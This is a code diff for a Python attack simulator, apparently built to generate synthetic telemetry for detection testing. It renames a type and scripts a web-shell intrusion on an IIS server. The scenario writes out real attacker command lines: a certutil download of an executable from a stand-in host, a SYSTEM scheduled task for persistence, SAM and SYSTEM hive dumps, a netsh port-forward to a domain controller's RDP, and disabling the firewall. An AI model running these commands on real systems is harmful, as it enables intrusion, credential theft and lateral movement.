@@ -1,7 +1,7 @@
 """A page on the web server that runs commands, then rights, passwords and a tunnel."""
 
 from tocsin.sources.simulator.actors import HIGH, SERVICE, Process
-from tocsin.sources.simulator.attack import Move, Stage
+from tocsin.sources.simulator.attack import Move, Playing
 from tocsin.sources.simulator.fleet import Host
 from tocsin.sources.simulator.tasks import task_xml
 from tocsin.sources.simulator.text import escaped
@@ -20,62 +20,62 @@ MOVES = (
 _POOL = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "Orders" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm'
 
 
-def play(stage: Stage) -> None:
+def play(playing: Playing) -> None:
     """Write the whole scenario."""
-    target = stage.pick(stage.fleet.servers, "web server")
-    worker = _worker(stage, target)
-    _through_the_page(stage, target, worker)
-    _as_system(stage, target)
-    stage.pause()
+    target = playing.pick(playing.fleet.servers, "web server")
+    worker = _worker(playing, target)
+    _through_the_page(playing, target, worker)
+    _as_system(playing, target)
+    playing.pause()
 
 
-def _worker(stage: Stage, target: Host) -> Process:
-    account = stage.fleet.services[2]
-    session = stage.recorder.logged_on(stage.at(-40), target, account, SERVICE, integrity=HIGH)
-    services = stage.residents.resident_of(target).services
-    return stage.start(-39, target, services, "w3wp", _POOL, session)
+def _worker(playing: Playing, target: Host) -> Process:
+    account = playing.fleet.services[2]
+    session = playing.recorder.logged_on(playing.at(-40), target, account, SERVICE, integrity=HIGH)
+    services = playing.residents.resident_of(target).services
+    return playing.start(-39, target, services, "w3wp", _POOL, session)
 
 
-def _through_the_page(stage: Stage, target: Host, worker: Process) -> None:
+def _through_the_page(playing: Playing, target: Host, worker: Process) -> None:
     def ask(seconds: float, command: str) -> Process:
-        return stage.start(seconds, target, worker, "cmd", f'"C:\\Windows\\system32\\cmd.exe" /c {command}')
+        return playing.start(seconds, target, worker, "cmd", f'"C:\\Windows\\system32\\cmd.exe" /c {command}')
 
-    stage.create_file(-5, target, worker, "C:\\inetpub\\wwwroot\\orders\\img\\thumb.aspx")
-    stage.begin(MOVES, 1)
+    playing.create_file(-5, target, worker, "C:\\inetpub\\wwwroot\\orders\\img\\thumb.aspx")
+    playing.begin(MOVES, 1)
     shell = ask(0, "whoami")
-    stage.begin(MOVES, 2)
-    stage.start(0.2, target, shell, "whoami", "whoami")
-    stage.begin(MOVES, 3)
-    stage.start(60.2, target, ask(60, "systeminfo"), "systeminfo", "systeminfo")
-    stage.begin(MOVES, 4)
+    playing.begin(MOVES, 2)
+    playing.start(0.2, target, shell, "whoami", "whoami")
+    playing.begin(MOVES, 3)
+    playing.start(60.2, target, ask(60, "systeminfo"), "systeminfo", "systeminfo")
+    playing.begin(MOVES, 4)
     source, path = "203.0.113.140", "C:\\Windows\\Temp\\winupd64.exe"
     fetch = f"certutil  -urlcache -split -f http://{source}/w.exe {path}"
-    tool = stage.start(200.2, target, ask(200, fetch), "certutil", fetch)
-    stage.connect(200.6, target, tool, source, 80)
-    stage.create_file(201, target, tool, path)
-    stage.begin(MOVES, 5)
+    tool = playing.start(200.2, target, ask(200, fetch), "certutil", fetch)
+    playing.connect(200.6, target, tool, source, 80)
+    playing.create_file(201, target, tool, path)
+    playing.begin(MOVES, 5)
     name = "\\Microsoft\\Windows\\Update\\Health"
     create = f'schtasks  /create /f /tn "{name}" /tr {path} /sc onstart /ru SYSTEM'
-    stage.start(330.2, target, ask(330, create), "schtasks", create)
+    playing.start(330.2, target, ask(330, create), "schtasks", create)
     content = task_xml(name, path, "", "S-1-5-18")
-    stage.recorder.task_created(stage.at(330.8), target, worker.session, escaped(name), escaped(content))
+    playing.recorder.task_created(playing.at(330.8), target, worker.session, escaped(name), escaped(content))
 
 
-def _as_system(stage: Stage, target: Host) -> None:
-    scheduler = stage.residents.resident_of(target).scheduler
-    stage.pause()
-    implant = stage.start(340, target, scheduler, "dropped", "C:\\Windows\\Temp\\winupd64.exe")
+def _as_system(playing: Playing, target: Host) -> None:
+    scheduler = playing.residents.resident_of(target).scheduler
+    playing.pause()
+    implant = playing.start(340, target, scheduler, "dropped", "C:\\Windows\\Temp\\winupd64.exe")
 
     def ask(seconds: float, name: str, command: str) -> Process:
-        shell = stage.start(seconds, target, implant, "cmd", f"C:\\Windows\\system32\\cmd.exe /c {command}")
-        return stage.start(seconds + 0.2, target, shell, name, command)
+        shell = playing.start(seconds, target, implant, "cmd", f"C:\\Windows\\system32\\cmd.exe /c {command}")
+        return playing.start(seconds + 0.2, target, shell, name, command)
 
-    stage.begin(MOVES, 6)
+    playing.begin(MOVES, 6)
     for turn, hive in enumerate(("sam", "system")):
         ask(700 + turn, "reg", f"reg  save HKLM\\{hive} C:\\Windows\\Temp\\{hive}.hiv /y")
-    stage.begin(MOVES, 7)
-    inner = stage.fleet.controllers[0].address.decode()
+    playing.begin(MOVES, 7)
+    inner = playing.fleet.controllers[0].address.decode()
     proxy = f"listenport=8443 connectaddress={inner} connectport=3389"
     ask(1200, "netsh", f"netsh  interface portproxy add v4tov4 listenaddress=0.0.0.0 {proxy}")
-    stage.begin(MOVES, 8)
+    playing.begin(MOVES, 8)
     ask(1260, "netsh", "netsh  advfirewall set allprofiles state off")
